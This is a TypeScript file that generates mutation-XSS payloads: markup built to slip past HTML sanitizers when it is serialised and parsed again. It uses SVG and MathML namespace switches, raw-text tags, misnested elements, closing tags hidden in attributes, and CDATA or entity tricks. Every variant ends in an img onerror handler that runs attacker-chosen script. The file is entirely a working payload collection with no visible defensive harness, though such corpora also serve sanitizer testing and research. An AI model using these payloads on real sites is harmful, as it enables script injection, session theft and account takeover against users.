// HTML that changes its meaning when it is serialised and parsed again (mXSS): moved nestings, namespaces, conditional text.

export function* mutations(run: string): Generator<string> {
  const img = `<img src=x onerror=${run}>`;
  const asText = [
    'style',
    'title',
    'textarea',
    'noscript',
    'noembed',
    'noframes',
    'xmp',
    'iframe',
    'script',
    'plaintext',
    'template',
    'desc',
  ];
  const integration = [
    '<svg>@</svg>',
    '<math>@</math>',
    '<svg><desc>@</desc></svg>',
    '<svg><foreignObject>@</foreignObject></svg>',
    '<svg><title>@</title></svg>',
    '<math><mtext>@</mtext></math>',
    '<math><annotation-xml encoding="text/html">@</annotation-xml></math>',
    '<math><annotation-xml encoding="application/xhtml+xml">@</annotation-xml></math>',
    '<math><mtext><mglyph>@</mglyph></mtext></math>',
    '<math><mtext><malignmark>@</malignmark></mtext></math>',
    '<form><math><mtext></form><form><mglyph>@',
    '<math><mi><table><mglyph>@',
    '<math><ms><table><malignmark>@',
    '<svg></p>@',
    '<math></br>@',
    '<svg><p>@',
  ];
  for (const outer of integration) {
    for (const inner of asText.slice(0, 8)) {
      // The closing tag is hidden in an attribute: one parser ends there, the other continues.
      yield outer.replace('@', `<${inner}><a title="</${inner}>${img}">`);
    }
    yield outer.replace('@', `<style><!--</style>${img}-->`);
    yield outer.replace('@', `<a id="</style>${img}">`);
    yield outer.replace('@', `<![CDATA[${img}]]>`);
    yield outer.replace('@', `<!--</style>${img}-->`);
  }
  for (const tag of asText) {
    yield `<${tag}><a title="</${tag}>${img}">`;
    yield `<p title="<${tag}>${img}</${tag}>">a</p>`;
    yield `<noscript><p title="</noscript>${img}<${tag}>"></noscript>`;
    yield `<template><${tag}></template>${img}</${tag}>`;
    yield `<select><${tag}>${img}</${tag}></select>`;
  }
  const misnested = [
    '<table><a><b></table>@</b></a>',
    '<table><caption>@<table><td>@',
    '<a><table><a>@</a></table></a>',
    '<form><div></form><form>@',
    '<b><p></b>@</p>',
    '<dl><dt>@<dd>@<dt>',
    '<h2><h3>@</h2></h3>',
    '<ul><li><ul></li>@</ul>',
    '<button><p><button>@',
    '<option><select><option>@',
    '<ruby><rt>@<rp>@',
    '<frameset><frame>@</frameset>',
    '<col><colgroup>@',
    '<tr><td>@',
    '<body><body x>@',
    '<p><p><p>@</p></table>',
  ];
  for (const outer of misnested) {
    yield outer.replaceAll('@', img);
    yield outer.replaceAll('@', `<svg><style><a title="</style>${img}">`);
  }
  yield `<p title="&lt;img src=x onerror=${run}&gt;">a</p>`;
  yield `<p title='"&gt;${img}'>a</p>`;
  yield `<a href="&quot;&gt;&lt;img src=x onerror=${run}&gt;">a</a>`;
  yield `<p lang='en"><img src=x onerror=${run}>'>a</p>`;
  yield `<img alt="\`\`onerror=${run}" src=x>`;
  yield `<img alt="&#96;&#96;onerror=${run}">`;
  yield `<p>&amp;lt;img src=x onerror=${run}&amp;gt;</p>`;
  yield `&lt;/p&gt;&lt;img src=x onerror=${run}&gt;`;
}
